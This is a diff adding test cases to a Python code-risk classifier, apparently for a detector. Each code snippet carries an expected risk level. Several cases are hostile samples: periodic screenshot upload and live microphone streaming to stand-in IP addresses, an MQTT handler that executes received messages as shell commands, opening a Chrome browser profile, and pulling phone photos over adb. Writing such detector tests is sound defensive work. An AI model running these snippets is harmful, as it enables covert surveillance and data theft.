@@ -1426,6 +1426,110 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             """,
             M,
         ),
+        # sensors, devices and event handlers
+        (
+            """
+            import io, time, pyautogui, requests
+            while True:
+                shot = pyautogui.screenshot()
+                buf = io.BytesIO()
+                shot.save(buf, format="PNG")
+                requests.post("http://198.51.100.23/upload", files={"f": buf.getvalue()})
+                time.sleep(30)
+            """,
+            C,
+        ),
+        (
+            """
+            import socket, sounddevice as sd
+            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+            def cb(indata, frames, t, status):
+                sock.sendto(bytes(indata), ("203.0.113.77", 40000))
+            with sd.RawInputStream(samplerate=16000, channels=1, callback=cb):
+                sd.sleep(60_000)
+            """,
+            C,
+        ),
+        (
+            """
+            import subprocess
+            import paho.mqtt.client as mqtt
+            def on_message(client, userdata, msg):
+                subprocess.run(msg.payload.decode(), shell=True)
+            c = mqtt.Client()
+            c.on_message = on_message
+            c.loop_forever()
+            """,
+            C,
+        ),
+        (
+            """
+            import paho.mqtt.client as mqtt
+            def on_message(client, userdata, msg):
+                print(msg.topic, msg.payload.decode())
+            c = mqtt.Client()
+            c.on_message = on_message
+            """,
+            S,
+        ),
+        (
+            """
+            import socket, serial
+            ser = serial.Serial("/dev/ttyUSB0", 115200)
+            srv = socket.socket()
+            srv.bind(("0.0.0.0", 2323))
+            srv.listen()
+            """,
+            H,
+        ),
+        (
+            """
+            import cv2
+            cam = cv2.VideoCapture(0)
+            i = 0
+            while True:
+                ok, frame = cam.read()
+                cv2.imwrite(f"/var/tmp/frames/{i:09d}.bmp", frame)
+                i += 1
+            """,
+            H,
+        ),
+        (
+            """
+            import cv2, time
+            cam = cv2.VideoCapture(0)
+            for i in range(10):
+                ok, frame = cam.read()
+                cv2.imwrite(f"shots/{i}.png", frame)
+            """,
+            M,
+        ),
+        (
+            """
+            from playwright.sync_api import sync_playwright
+            import os
+            with sync_playwright() as p:
+                ctx = p.chromium.launch_persistent_context(os.path.expanduser("~/.config/google-chrome"))
+            """,
+            H,
+        ),
+        (
+            """
+            import subprocess
+            def adb(*args):
+                return subprocess.run(["adb", *args])
+            for p in ["/sdcard/DCIM/Camera"]:
+                adb("pull", p, "/tmp/x")
+            """,
+            H,
+        ),
+        (
+            """
+            from pathlib import Path
+            Path("udev/60-devboard.rules").write_text('SUBSYSTEM=="tty", MODE="0660", GROUP="plugdev"')
+            """,
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
